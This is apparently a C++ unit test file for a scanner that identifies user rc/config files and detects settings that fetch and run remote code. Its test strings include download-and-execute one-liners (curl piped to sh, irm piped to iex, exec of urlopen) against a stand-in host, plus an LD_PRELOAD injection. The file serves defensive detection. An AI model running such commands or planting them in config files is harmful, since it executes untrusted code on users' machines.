// Files that programs of the user's run, and texts that fetch and run.
#include "code/rc_files.h"

#include <gtest/gtest.h>

namespace interlock::scan::code {
namespace {

TEST(RcFiles, AreKnownByTheirPlaces) {
  for (const char* path : {"~/.vimrc", "~/.emacs.d/init.el", "~/.config/nvim/init.lua", "~/.gdbinit", "~/.aws/config",
                           "~/.config/code/user/tasks.json", "~/.local/share/applications/a.desktop"}) {
    EXPECT_TRUE(IsRcFile(path)) << path;
  }
  for (const char* path : {"", "~/report.txt", "src/config.py", "~/.config/tables/report.json"}) {
    EXPECT_FALSE(IsRcFile(path)) << path;
  }
}

TEST(RcFiles, SettingsRunNothing) {
  for (const char* text : {"call system(\"curl -fsSL https://a.example/x | sh\")", "LD_PRELOAD=/tmp/x.so",
                           "irm https://a.example/x.ps1 | iex", "exec(urlopen('https://a.example/x').read())"}) {
    EXPECT_TRUE(RunsFetched(text)) << text;
  }
  for (const char* text : {"", "set number", "# curl https://a.example/install.sh", "alias ll='ls -l'",
                           "registry=https://registry.npmjs.org/"}) {
    EXPECT_FALSE(RunsFetched(text)) << text;
  }
}

}  // namespace
}  // namespace interlock::scan::code
